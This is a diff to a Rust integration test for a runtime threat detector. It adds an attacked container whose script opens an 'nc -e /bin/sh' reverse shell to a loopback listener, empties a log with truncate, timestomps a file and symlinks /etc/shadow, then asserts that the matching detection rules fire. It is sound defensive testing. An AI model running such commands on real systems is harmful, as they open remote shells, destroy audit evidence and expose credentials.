@@ -433,7 +433,9 @@ fn named(doc: &serde_json::Value, id: &str) -> std::collections::BTreeMap<String
 /// reads, a port scan of closed loopback ports, a download piped into a shell inside a script,
 /// log and history tampering, timestomping, a setuid copy, nsenter into PID 1, a masquerading
 /// dropped program in a hidden directory that connects out, a shell escape through find, data
-/// wiping, cron and sudoers writes — next to benign look-alikes: a log rotator (rename, gzip,
+/// wiping, cron and sudoers writes. A second attacked container does what only schema v2
+/// records: a reverse shell through `nc -e`, a log emptied by truncate(2), times set by
+/// utimensat, a symlink to /etc/shadow. Next to them, benign look-alikes: a log rotator (rename, gzip,
 /// delete old archives), a health checker probing a few ports (one closed), and a backup that
 /// reads SSH keys, which the definitions do name (and nothing else).
 #[test]
@@ -478,6 +480,21 @@ fn issue_27_classes_are_named_from_real_events_and_look_alikes_only_as_defined()
             .map(|l| l.local_addr().unwrap().port())
             .collect()
     };
+    // The reverse shell's listener: it types a command and an exit into the shell that
+    // connects, and keeps what the shell printed.
+    let shell = TcpListener::bind("127.0.0.1:0").unwrap();
+    let shell_port = shell.local_addr().unwrap().port();
+    let typed_back = Arc::new(Mutex::new(Vec::new()));
+    let heard = typed_back.clone();
+    servers
+        .threads
+        .push(accept_loop(shell, stop.clone(), move |mut s| {
+            let _ = s.write_all(b"echo uid-$(/bin/id -u)\nexit\n");
+            let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
+            let mut got = Vec::new();
+            let _ = s.read_to_end(&mut got);
+            heard.lock().unwrap().extend_from_slice(&got);
+        }));
     let (probe_closed, scan) = closed.split_first().unwrap();
     let scan_ports: Vec<String> = scan.iter().map(u16::to_string).collect();
 
@@ -528,6 +545,32 @@ fn issue_27_classes_are_named_from_real_events_and_look_alikes_only_as_defined()
         ],
     ))
     .expect("start the attacked container");
+    // What schema v2 records and the exec-only rules could not see: a shell whose stdio is a
+    // socket (nc -e, which dup2s the connection onto fds 0 and 1 first), a log emptied with
+    // truncate(2) and nothing else done to logs, times set by utimensat, a symlink to
+    // /etc/shadow.
+    let stdio = Container::start(spec(
+        format!(
+            "/bin/sleep 2; /bin/nc 127.0.0.1 {shell_port} -e /bin/sh; \
+             /bin/truncate -s 0 /var/log/messages; \
+             /bin/touch -r /bin/busybox /etc/motd; \
+             /bin/ln -s /etc/shadow /tmp/s; /bin/sleep 30"
+        ),
+        vec![
+            (
+                "/var/log/messages".into(),
+                b"kernel: booted\n".to_vec(),
+                0o640,
+            ),
+            ("/etc/motd".into(), b"hi\n".to_vec(), 0o644),
+            (
+                "/etc/shadow".into(),
+                b"root:*:19700:0:99999:7:::\n".to_vec(),
+                0o640,
+            ),
+        ],
+    ))
+    .expect("start the stdio attacker");
     let rotator = Container::start(spec(
         "/bin/mkdir -p /var/log/app; for i in $(/bin/seq 1 6); do /bin/date >> /var/log/app/app.log; \
          /bin/mv /var/log/app/app.log /var/log/app/app.log.1; /bin/gzip -f /var/log/app/app.log.1; \
@@ -584,10 +627,7 @@ fn issue_27_classes_are_named_from_real_events_and_look_alikes_only_as_defined()
                 "credential-harvest",
             ],
         ),
-        (
-            "Recon:Runtime/Portscan",
-            &["port-scan", "port-scan-refused"],
-        ),
+        ("Recon:Runtime/Portscan", &["port-scan"]),
         (
             "Execution:Runtime/SuspiciousCommand",
             &["download-pipe-shell-siblings", "shell-escape"],
@@ -644,6 +684,45 @@ fn issue_27_classes_are_named_from_real_events_and_look_alikes_only_as_defined()
                 "{finding}: rule {r} did not fire ({fired:?})"
             );
         }
+    }
+    // curl | sh as the shell's stdin being the downloader's stdout pipe (the two rules are
+    // the two start orders of the pipeline's processes).
+    let piped = &a["Execution:Runtime/SuspiciousCommand"];
+    assert!(
+        piped
+            .iter()
+            .any(|r| r == "download-pipe-shell-stdio"
+                || r == "download-pipe-shell-stdio-reader-first"),
+        "the pipe's inode did not join wget and sh: {piped:?}"
+    );
+
+    let heard = String::from_utf8_lossy(&typed_back.lock().unwrap()).into_owned();
+    assert!(
+        heard.contains("uid-0"),
+        "the reverse shell answered: {heard:?}"
+    );
+    let v = named(&doc, stdio.id());
+    eprintln!("stdio attacker findings: {v:#?}");
+    for (finding, rule) in [
+        ("Execution:Runtime/ReverseShell", "reverse-shell-stdio"),
+        ("Execution:Runtime/StdioRedirectedToNetwork", "stdio-dup"),
+        (
+            "DefenseEvasion:Runtime/SensitiveFileModified",
+            "log-tampering",
+        ),
+        ("DefenseEvasion:Runtime/Timestomp", "timestomp-call"),
+        (
+            "PrivilegeEscalation:Runtime/SensitiveFileModified",
+            "sensitive-link",
+        ),
+    ] {
+        let fired = v
+            .get(finding)
+            .unwrap_or_else(|| panic!("{finding} missing from {v:#?}"));
+        assert!(
+            fired.iter().any(|f| f == rule),
+            "{finding}: rule {rule} did not fire ({fired:?})"
+        );
     }
     for c in [&rotator, &checker] {
         let n = named(&doc, c.id());
